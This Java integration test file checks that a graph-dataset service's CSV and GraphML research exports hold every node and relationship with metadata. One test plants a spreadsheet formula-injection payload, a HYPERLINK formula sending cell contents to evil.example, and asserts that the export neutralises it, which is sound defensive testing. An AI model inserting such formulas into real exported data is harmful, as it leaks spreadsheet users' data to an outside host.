package org.accordgraph.dataset;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;

import javax.xml.parsers.DocumentBuilderFactory;

import com.jayway.jsonpath.JsonPath;
import org.accordgraph.AccordGraphTest;
import org.accordgraph.format.Dataset;
import org.accordgraph.format.Label;
import org.accordgraph.format.RelationshipType;
import org.accordgraph.format.Sections;
import org.junit.jupiter.api.Test;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;
import tools.jackson.databind.MappingIterator;
import tools.jackson.dataformat.csv.CsvMapper;
import tools.jackson.dataformat.csv.CsvSchema;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.data.neo4j.core.Neo4jClient;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The exports researchers open, fetched over HTTP as they would fetch them and read back with a
 * CSV parser and an XML parser: every node and relationship is there, with its properties.
 */
@AccordGraphTest
class ResearchExportTests {


	@LocalServerPort
	int port;

	@Autowired
	Neo4jClient neo4j;

	@Autowired
	Sections sections;

	private byte[] get(String path) throws Exception {
		HttpResponse<byte[]> response = HttpClient.newHttpClient().send(
				HttpRequest.newBuilder(URI.create("http://localhost:" + this.port + path)).build(),
				HttpResponse.BodyHandlers.ofByteArray());
		assertThat(response.statusCode()).isEqualTo(200);
		assertThat(response.headers().firstValue("Content-Disposition")).hasValueSatisfying(
				disposition -> assertThat(disposition).startsWith("attachment"));
		return response.body();
	}

	/** The nodes of the format's labels, and the relationships of its types: what the exports hold. */
	private long count(String what) {
		String query = what.equals("nodes") ? "MATCH (n) WHERE any(l IN labels(n) WHERE l IN $labels) RETURN count(n)"
				: "MATCH ()-[r]->() WHERE type(r) IN $types RETURN count(r)";
		return this.neo4j.query(query)
			.bindAll(Map.of("labels", this.sections.labels().stream().map(Label::name).toList(), "types",
					this.sections.relationshipTypes().stream().map(RelationshipType::name).toList()))
			.fetchAs(Long.class)
			.one()
			.orElseThrow();
	}

	@Test
	void theCsvExportHasAFilePerLabelAndTypeThatACsvParserReads() throws Exception {
		Map<String, List<Map<String, String>>> files = new HashMap<>();
		Map<String, Object> metadata = null;
		try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(get("/export/csv")))) {
			for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
				if (entry.getName().equals("metadata.json")) {
					metadata = JsonPath.read(new String(zip.readAllBytes(), StandardCharsets.UTF_8), "$");
					continue;
				}
				files.put(entry.getName(), read(zip.readAllBytes()));
			}
		}
		assertThat(metadata).isNotNull().containsKeys("version", "exportedAt", "asOf", "licence", "citations")
			.containsEntry("service", "Accord Graph");
		assertThat(files.get("nodes/Citation.csv")).as("the passages that facts' citations name")
			.anySatisfy(row -> assertThat(row.get("id")).startsWith("Citation:unodc-press-release-astana-2023#"));
		long nodes = files.entrySet().stream().filter(e -> e.getKey().startsWith("nodes/"))
			.mapToLong(e -> e.getValue().size()).sum();
		long relationships = files.entrySet().stream().filter(e -> e.getKey().startsWith("relationships/"))
			.mapToLong(e -> e.getValue().size()).sum();
		assertThat(nodes).isEqualTo(count("nodes"));
		assertThat(relationships).isEqualTo(count("relationships"));
		assertThat(files).doesNotContainKeys("nodes/Change.csv", "nodes/Dataset.csv", "relationships/MIGRATED_TO.csv");
		assertThat(files.get("nodes/Conference.csv")).anySatisfy(row -> {
			assertThat(row).containsEntry("id", "Conference:astana-2023").containsEntry("city", "Astana");
			assertThat(row.get("startDate")).matches("\\d{4}-\\d{2}-\\d{2}");
			assertThat(row.get("citations")).startsWith("[\"");
		});
		assertThat(files.get("relationships/HOSTED_BY.csv")).anySatisfy(row -> assertThat(row)
			.containsEntry("source", "Conference:astana-2023").containsEntry("target", "Country:KZ")
			.containsEntry("type", "HOSTED_BY"));
	}

	@Test
	void aCuratorsTextThatASpreadsheetWouldRunIsExportedInert() throws Exception {
		try {
			this.neo4j.query("MATCH (c:Conference {slug: 'astana-2023'}) SET c.note = $note, c.testFigure = $figure")
				.bindAll(Map.of("note", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "figure", "-12.5"))
				.run();
			Map<String, List<Map<String, String>>> files = new HashMap<>();
			try (ZipInputStream zip = new ZipInputStream(new ByteArrayInputStream(get("/export/csv")))) {
				for (ZipEntry entry = zip.getNextEntry(); entry != null; entry = zip.getNextEntry()) {
					if (entry.getName().endsWith(".csv")) {
						files.put(entry.getName(), read(zip.readAllBytes()));
					}
				}
			}
			assertThat(files.get("nodes/Conference.csv")).anySatisfy(row -> assertThat(row)
				.containsEntry("id", "Conference:astana-2023")
				.containsEntry("note", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")")
				.containsEntry("testFigure", "-12.5"));
		}
		finally {
			this.neo4j.query("MATCH (c:Conference {slug: 'astana-2023'}) REMOVE c.note, c.testFigure").run();
		}
	}

	@Test
	void theGraphmlExportIsAGraphThatAnXmlParserReads() throws Exception {
		Document graphml = DocumentBuilderFactory.newDefaultNSInstance().newDocumentBuilder()
			.parse(new ByteArrayInputStream(get("/export/graphml")));
		NodeList nodes = graphml.getElementsByTagNameNS("http://graphml.graphdrawing.org/xmlns", "node");
		NodeList edges = graphml.getElementsByTagNameNS("http://graphml.graphdrawing.org/xmlns", "edge");
		assertThat((long) nodes.getLength()).isEqualTo(count("nodes"));
		assertThat((long) edges.getLength()).isEqualTo(count("relationships"));
		assertThat(this.neo4j.query("MATCH ()-[r:MIGRATED_TO]->() RETURN count(r)").fetchAs(Long.class).one())
			.as("the migration tool's own records, which the export leaves out").hasValueSatisfying(n -> assertThat(n).isPositive());
		boolean hosted = false;
		for (int i = 0; i < edges.getLength(); i++) {
			Element edge = (Element) edges.item(i);
			hosted |= edge.getAttribute("source").equals("Conference:astana-2023")
					&& edge.getAttribute("target").equals("Country:KZ")
					&& edge.getTextContent().startsWith("HOSTED_BY");
		}
		assertThat(hosted).isTrue();
		NodeList about = ((Element) graphml.getElementsByTagNameNS("http://graphml.graphdrawing.org/xmlns", "graph").item(0))
			.getElementsByTagNameNS("http://graphml.graphdrawing.org/xmlns", "data");
		List<String> said = new ArrayList<>();
		for (int i = 0; i < about.getLength() && about.item(i).getParentNode().getLocalName().equals("graph"); i++) {
			said.add(((Element) about.item(i)).getAttribute("key"));
		}
		assertThat(said).contains("g:service", "g:version", "g:exportedAt", "g:asOf", "g:licence");
		NodeList keys = graphml.getElementsByTagNameNS("http://graphml.graphdrawing.org/xmlns", "key");
		assertThat(keys.getLength()).isGreaterThan(10);
	}

	private static List<Map<String, String>> read(byte[] csv) throws IOException {
		try (MappingIterator<Map<String, String>> rows = new CsvMapper().readerForMapOf(String.class)
			.with(CsvSchema.emptySchema().withHeader())
			.readValues(csv)) {
			return rows.readAll();
		}
	}

}
